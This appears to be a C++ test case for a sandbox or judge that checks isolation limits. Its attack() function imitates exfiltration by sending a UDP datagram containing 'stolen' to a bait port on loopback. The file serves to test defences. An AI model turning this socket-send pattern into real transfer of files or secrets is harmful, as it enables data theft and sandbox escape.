// Attack: sends another's file in a datagram.
// Expect: AC
// Open at: limits
// Proof: peer
#include "bait.h"
#include "honest.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
void attack() {
    static bool begun = false;
    if (begun) return;
    begun = true;
    const int s = ::socket(AF_INET, SOCK_DGRAM, 0);
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(BAIT_PORT);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ::sendto(s, "stolen", 6, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    ::close(s);
}
